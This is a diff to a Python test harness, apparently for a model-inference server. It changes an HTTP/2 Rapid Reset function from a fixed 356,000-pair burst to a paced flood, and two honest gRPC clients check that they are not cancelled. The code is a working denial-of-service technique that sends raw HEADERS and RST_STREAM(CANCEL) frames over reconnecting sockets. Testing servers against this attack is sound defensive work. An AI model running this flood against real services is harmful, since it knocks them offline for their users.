@@ -537,10 +537,12 @@ def _h2_reader(sock: socket.socket, alive: list[bool], counts: dict) -> None:
     alive[0] = False
 
 
-def rapid_reset(target: Target, seconds: float = 60.0, pairs: int = 356_000) -> Report:
-    """One HTTP/2 connection to the gRPC port that sends up to `pairs` HEADERS (a ModelInfer
-    call) each followed at once by RST_STREAM(CANCEL), reconnecting when closed, beside 2
-    honest gRPC clients on their own connections (which must not see CANCELLED)."""
+def rapid_reset(target: Target, seconds: float = 60.0, pace: int = 30_000) -> Report:
+    """One HTTP/2 connection to the gRPC port that sends HEADERS (a ModelInfer call) each
+    followed at once by RST_STREAM(CANCEL), `pace` pairs a second (the report's flood was
+    356,000 pairs; at full speed 356,000 went out in about a second) for `seconds`,
+    reconnecting when closed, beside 2 honest gRPC clients on their own connections (which
+    must not see CANCELLED)."""
     host, port = target.grpc.rsplit(":", 1)
     authority = f"{host}:{port}".encode()
     block = (
@@ -553,7 +555,8 @@ def rapid_reset(target: Target, seconds: float = 60.0, pairs: int = 356_000) -> 
 
     def attack(deadline: float, counts: dict) -> None:
         sent = 0
-        while sent < pairs and time.monotonic() < deadline:
+        started = time.monotonic()
+        while time.monotonic() < deadline:
             sock = socket.create_connection((host, int(port)), timeout=5)
             sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
             alive = [True]
@@ -562,7 +565,10 @@ def rapid_reset(target: Target, seconds: float = 60.0, pairs: int = 356_000) -> 
             reader.start()
             stream = 1
             try:
-                while alive[0] and sent < pairs and time.monotonic() < deadline and stream < (1 << 31) - 2000:
+                while alive[0] and time.monotonic() < deadline and stream < (1 << 31) - 2000:
+                    ahead = sent / pace - (time.monotonic() - started)
+                    if ahead > 0:
+                        time.sleep(ahead)
                     chunk = b"".join(
                         _frame(1, 0x4, s, block) + _frame(3, 0, s, struct.pack(">I", 8))
                         for s in range(stream, stream + 2000, 2)
